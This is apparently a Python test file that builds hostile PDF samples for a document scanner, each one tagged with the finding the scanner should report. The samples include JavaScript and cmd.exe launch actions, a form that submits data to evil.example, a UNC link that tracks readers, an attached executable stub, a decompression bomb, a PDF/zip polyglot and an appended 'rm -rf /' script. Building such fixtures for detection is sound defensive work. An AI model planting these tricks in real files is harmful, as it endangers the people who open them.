"""PDF: locks, scripts, things attached, and what is no PDF."""

import io
import zlib

import pikepdf

from tests.build import documents as ordinary
from tests.files.hostile.corpus import changed_pdf, hostile


@hostile("minutes.pdf", "locked with a password", "pdf-locked", "This PDF is locked", also="stumbles")
def _():
    return changed_pdf(encryption=pikepdf.Encryption(owner="o", user="u"))


@hostile("minutes.pdf", "may not be printed or copied", "pdf-locked", "This PDF is locked")
def _():
    return changed_pdf(encryption=pikepdf.Encryption(owner="o", user=""))


def _script(pdf):
    return pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))


@hostile("minutes.pdf", "a program that runs when it is opened", "pdf-javascript", "This PDF has a program in it")
def _():
    return changed_pdf(lambda pdf: pdf.Root.update({"/OpenAction": _script(pdf)}))


@hostile(
    "minutes.pdf", "a program among its names, where no page shows it", "pdf-javascript", "This PDF has a program in it"
)
def _():
    def change(pdf):
        pdf.Root.Names = pikepdf.Dictionary(
            JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), _script(pdf)]))
        )

    return changed_pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


@hostile("minutes.pdf", "starts another program", "pdf-launch", "This PDF starts another program")
def _():
    return changed_pdf(
        lambda pdf: pdf.Root.update(
            {"/OpenAction": pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))}
        )
    )


@hostile(
    "minutes.pdf",
    "opens a file on another machine, which hears who reads",
    "pdf-launch",
    "This PDF starts another program or opens another file",
)
def _():
    return changed_pdf(
        lambda pdf: pdf.Root.update(
            {"/OpenAction": pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\evil.example\\x"), D=[0])}
        )
    )


@hostile("minutes.pdf", "another file attached to it", "pdf-attachments", "This PDF has other files attached to it")
def _():
    return changed_pdf(lambda pdf: pdf.attachments.__setitem__("evil.exe", b"MZ" + bytes(99)))


@hostile("form.pdf", "a form of Adobe's own kind", "pdf-xfa", "This PDF is a form that only Adobe")
def _():
    return changed_pdf(
        lambda pdf: pdf.Root.update({"/AcroForm": pikepdf.Dictionary(XFA=pikepdf.Stream(pdf, b"<xdp/>"), Fields=[])})
    )


@hostile("form.pdf", "sends what is filled in to another place", "pdf-sends", "This PDF sends what is filled in")
def _():
    return changed_pdf(
        lambda pdf: pdf.pages[0].obj.update(
            {
                "/AA": pikepdf.Dictionary(
                    O=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example"))
                )
            }
        )
    )


@hostile("minutes.pdf", "a film in it", "pdf-media", "This PDF has film, sound")
def _():
    return changed_pdf(
        lambda pdf: pdf.pages[0].obj.update(
            {
                "/Annots": pikepdf.Array(
                    [pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 1, 1])]
                )
            }
        )
    )


@hostile("minutes.pdf", "a link that starts a script", "link-runs", "This PDF has a link that would start a program")
def _():
    return changed_pdf(
        lambda pdf: pdf.Root.update(
            {"/OpenAction": pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("javascript:alert(1)"))}
        )
    )


@hostile("minutes.pdf", "a stream that unpacks to a gigabyte", "packed-too-tight", "Part of this file unpacks")
def _():
    packer, packed = zlib.compressobj(9), []
    for _ in range(200):
        packed.append(packer.compress(bytes(1024 * 1024)))
    packed.append(packer.flush())

    def change(pdf):
        stream = pikepdf.Stream(pdf, b"")
        stream.write(b"".join(packed), filter=pikepdf.Name.FlateDecode)
        pdf.Root.Evil = stream

    return changed_pdf(change, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


@hostile("minutes.pdf", "packed twice, to be out of sight of scanners", "packed-too-tight", "Part of this file unpacks")
def _():
    def change(pdf):
        stream = pikepdf.Stream(pdf, b"")
        stream.write(zlib.compress(zlib.compress(b"evil" * 99)), filter=[pikepdf.Name.FlateDecode] * 2)
        pdf.Root.Evil = stream

    return changed_pdf(change, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


@hostile("minutes.pdf", "a PDF and an archive at once", "two-files-in-one", "This file is a PDF and an archive at once")
def _():
    return ordinary.pdf() + ordinary.zipped([("Evil.class", b"class" * 50)])


@hostile("minutes.pdf", "a program behind its end", "after-the-end", "There is something behind the end")
def _():
    return ordinary.pdf() + b"#!/bin/sh\n" + b"rm -rf /\n" * 9


@hostile(
    "minutes.pdf",
    "cut short on its way",
    "pdf-cut-short",
    "This PDF ends before it should",
    also="damaged after-the-end",
)
def _():
    return ordinary.pdf()[:600]


@hostile("minutes.pdf", "no pages", "pdf-no-pages", "This PDF has no pages")
def _():
    out = io.BytesIO()
    pikepdf.new().save(out)
    return out.getvalue()


@hostile("minutes.pdf", "nothing behind its first line", "damaged", "This file is damaged", also="stumbles")
def _():
    return b"%PDF-1.7\n" + b"nonsense " * 200 + b"\n%%EOF\n"
